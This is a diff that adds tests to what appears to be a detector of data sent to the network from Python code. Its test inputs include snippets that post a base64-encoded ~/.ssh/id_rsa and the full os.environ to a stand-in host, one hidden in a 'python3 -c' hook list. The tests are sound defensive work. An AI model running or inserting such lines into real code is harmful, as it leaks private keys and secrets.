@@ -39,6 +39,24 @@ describe('what is sent, where in the request, to whom', () => {
     ).toEqual(expect.arrayContaining(['file', 'listing']));
     expect(sent('requests.post("https://h.test", data=open("w/a"))')).toEqual(['file']);
   });
+  it('a snippet without its imports means the functions of that name, a name of its own stays its own', () => {
+    const sent = 'requests.post("https://h.test", data=b64encode(check_output("cat ~/.ssh/id_rsa", shell=True)))';
+    expect(flow(py(sent), { from: ['content:ssh', 'encoded'], to: 'network', host: 'h.test' })).toBeDefined();
+    const own = py(`def check_output(what, shell):\n    return "x"\n${sent}`);
+    expect(own.flows().filter((one) => one.from.includes('content:ssh'))).toEqual([]);
+  });
+  it('a list that starts a program with code inside is read wherever it is kept', () => {
+    const code = "import os, requests as r; r.post('https://h.test', json=dict(os.environ))";
+    for (const list of [
+      `["python3", "-u", "-c", "${code}"]`,
+      `[sys.executable, "-c", "import os, requests as r; " "${code.slice(26)}"]`,
+    ])
+      expect(
+        flow(py(`import sys\nHOOKS = {"after": ${list}}`), { from: ['env:*'], to: 'network' }),
+        list,
+      ).toBeDefined();
+    expect(py('A = ["python3", "-m", "http.server"]\nB = ["bash", "-c"]').commands()).toEqual([]);
+  });
   it('the whole environment in a body is not', () => {
     for (const code of [
       'import os, requests\nrequests.post("https://h.test", json=dict(os.environ))',
